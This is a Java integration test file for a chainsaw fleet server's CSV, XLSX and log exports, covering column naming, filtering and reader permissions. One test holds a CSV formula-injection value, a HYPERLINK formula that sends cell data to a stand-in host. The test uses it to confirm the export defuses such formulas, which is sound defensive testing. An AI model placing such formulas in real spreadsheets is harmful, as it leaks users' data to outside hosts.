package yellowtally.server;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.Reader;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.parallel.ResourceLock;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import yellowtally.server.RunningServer.Answer;
import yellowtally.server.RunningServer.Api;

/** All records as sheets, and part of the log as one: read as a spreadsheet reads them. */
@ExtendWith(RunningServer.class)
@ResourceLock(RunningServer.ALL_RECORDS)
class SheetsHttpTest {

    private static final CSVFormat SHEET =
            CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();

    private static byte[] bytes(Api api, String path) {
        HttpResponse<byte[]> answer = api.signed()
                .send(
                        HttpRequest.newBuilder(URI.create(api.root() + path)).GET(),
                        HttpResponse.BodyHandlers.ofByteArray());
        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.headers().firstValue("Content-Disposition").orElseThrow())
                .startsWith("attachment; filename=\"yellow-tally-");
        return answer.body();
    }

    private static List<CSVRecord> rows(Reader csv) throws IOException {
        assertThat(csv.read()).as("byte order mark").isEqualTo(0xFEFF);
        return SHEET.parse(csv).getRecords();
    }

    private static Map<String, List<CSVRecord>> zipped(byte[] zip) throws IOException {
        Map<String, List<CSVRecord>> sheets = new HashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                byte[] sheet = in.readAllBytes();
                sheets.put(
                        entry.getName(),
                        rows(new InputStreamReader(new ByteArrayInputStream(sheet), StandardCharsets.UTF_8)));
            }
        }
        return sheets;
    }

    private static List<CSVRecord> log(Api api, String filter) throws IOException {
        return rows(new StringReader(new String(bytes(api, "/api/log.csv?" + filter), StandardCharsets.UTF_8)));
    }

    /** The tables that no other test writes to. */
    private static Map<String, Integer> counts(Api api) {
        Map<String, Integer> counts = new HashMap<>();
        JsonNode file = JsonMapper.builder()
                .build()
                .readTree(api.get("/api/fleet-file").raw().body());
        file.path("tables")
                .forEach(table -> counts.put(
                        table.path("table").asString(), table.path("count").asInt()));
        return counts;
    }

    @Test
    void everyTableIsASheetWithNamesInsteadOfIds(Api api) throws IOException {
        Map<String, List<CSVRecord>> csv = zipped(bytes(api, "/api/sheets.csv"));
        Map<String, Integer> counts = counts(api);
        counts.remove("seal");
        assertThat(csv).hasSize(counts.size() + 1).containsKey("columns.csv");
        // Rows that are never written while tests run.
        for (String table : List.of("crew", "model", "refuel", "scale_calibration")) {
            assertThat(csv.get(table.replace('_', '-') + ".csv"))
                    .as(table)
                    .hasSizeGreaterThanOrEqualTo(counts.get(table));
        }
        CSVRecord saw = csv.get("saw.csv").stream()
                .filter(row -> row.get("Tag").equals("12"))
                .findFirst()
                .orElseThrow();
        assertThat(saw.get("Model")).isEqualTo("Kestrup K45");
        assertThat(saw.get("Power")).isEqualTo("Petrol");
        assertThat(saw.get("Captive nuts")).isEqualTo("yes");
        assertThat(saw.get("Adjuster lead, mm")).isEqualTo("0.8");
        assertThat(saw.toMap()).doesNotContainKey("Version");
        CSVRecord measured = csv.get("work-measure.csv").stream()
                .filter(row -> row.get("Measure").equals("Groove depth")
                        && row.get("Saw").equals("15"))
                .findFirst()
                .orElseThrow();
        assertThat(measured.get("Step")).isEqualTo("Groove and oil holes");
        assertThat(measured.get("When")).matches("20\\d\\d-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d");
        assertThat(csv.get("columns.csv"))
                .anyMatch(row -> row.get("Sheet").equals("Work measure")
                        && row.get("What it is").contains("unit"));
    }

    @Test
    void theWorkbookSaysTheSame(Api api) throws IOException {
        byte[] xlsx = bytes(api, "/api/sheets.xlsx");
        try (ReadableWorkbook book = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            List<String> names = book.getSheets().map(sheet -> sheet.getName()).toList();
            assertThat(names.get(0)).isEqualTo("Columns");
            assertThat(names).contains("Saw", "Work record", "Tension reading").doesNotContain("Seal");
            List<Row> saws = book.findSheet("Saw").orElseThrow().read();
            int tag = column(saws.get(0), "Tag");
            int since = column(saws.get(0), "In service");
            Row twelve = saws.stream()
                    .filter(row -> row.getCellText(tag).equals("12"))
                    .findFirst()
                    .orElseThrow();
            // A tag is text, also where it looks like a number; a day is a day.
            assertThat(twelve.getCell(tag).getType()).isEqualTo(CellType.STRING);
            assertThat(twelve.getCellAsDate(since)).isPresent();
        }
    }

    private static int column(Row headings, String called) {
        for (int i = 0; i < headings.getCellCount(); i++) {
            if (headings.getCellText(i).equals(called)) {
                return i;
            }
        }
        throw new AssertionError("no column " + called);
    }

    @Test
    void theLogIsASheetOfWhatIsAskedFor(Api api) throws IOException {
        List<JsonNode> pages = new ArrayList<>();
        String before = "";
        while (true) {
            JsonNode page = api.get("/api/log?saw=15" + before).body();
            page.path("entries").forEach(pages::add);
            if (!page.has("next")) {
                break;
            }
            before = "&before=" + page.path("next").asString();
        }
        List<CSVRecord> rows = log(api, "saw=15");
        assertThat(rows).hasSize(pages.size()).hasSizeGreaterThan(100);
        assertThat(rows).extracting(row -> row.get("Saw")).containsOnly("15");
        assertThat(rows).extracting(row -> row.get("When")).isSortedAccordingTo((one, other) -> other.compareTo(one));
        assertThat(rows).anySatisfy(row -> {
            assertThat(row.get("What")).isEqualTo("Groove and oil holes");
            assertThat(row.get("Read")).matches("Groove depth \\d\\.\\d+ mm");
            assertThat(row.get("Part")).isEqualTo("YB-15");
            assertThat(row.get("By")).isNotBlank();
        });
        assertThat(rows).anySatisfy(row -> assertThat(row.get("Read")).contains("tang line"));
        assertThat(rows).anySatisfy(row -> assertThat(row.get("Read")).matches("\\d+(\\.\\d)? tanks?"));
        // What the filter leaves out is not in it, and what nothing fits is a sheet without rows.
        assertThat(log(api, "saw=15&kinds=OUT,BACK"))
                .extracting(row -> row.get("Kind"))
                .containsOnly("Going out", "Coming back");
        assertThat(log(api, "saw=15&before=2001-01-01T00:00:00Z")).isEmpty();
        assertThat(api.get("/api/log.csv?saw=no-such-saw").status()).isEqualTo(404);
    }

    /** A note that a spreadsheet would reckon with, or fetch from elsewhere, is text. */
    @Test
    void whatLooksLikeAFormulaIsDefused(Api api) throws IOException {
        String note = "=HYPERLINK(\"http://fell.example/\"&A1)";
        api.post("/api/saws", Checks.newSaw(api, RunningServer.id(), "SHEET-1", 68));
        Answer held = api.post(
                "/api/saws/SHEET-1/holds",
                "{\"id\":\"%s\",\"step\":\"OUTSIDE_LOOK\",\"note\":\"%s\"}"
                        .formatted(RunningServer.id(), note.replace("\"", "\\\"")));
        assertThat(held.status()).as(held.raw().body()).isLessThan(300);
        assertThat(log(api, "saw=SHEET-1&kinds=HELD"))
                .extracting(row -> row.get("Note"))
                .contains("'" + note);
    }

    @Test
    void aReaderTakesTheLogAndNotAllRecords(Api api) throws IOException {
        Api reader = api.as(Signed.READER);
        assertThat(log(reader, "saw=15&kinds=OUT")).isNotEmpty();
        for (String path : List.of("/api/fleet-file", "/api/sheets.csv", "/api/sheets.xlsx")) {
            assertThat(reader.get(path).status()).as(path).isEqualTo(403);
        }
        assertThat(reader.get("/api/calendar.ics").status()).isEqualTo(200);
    }
}
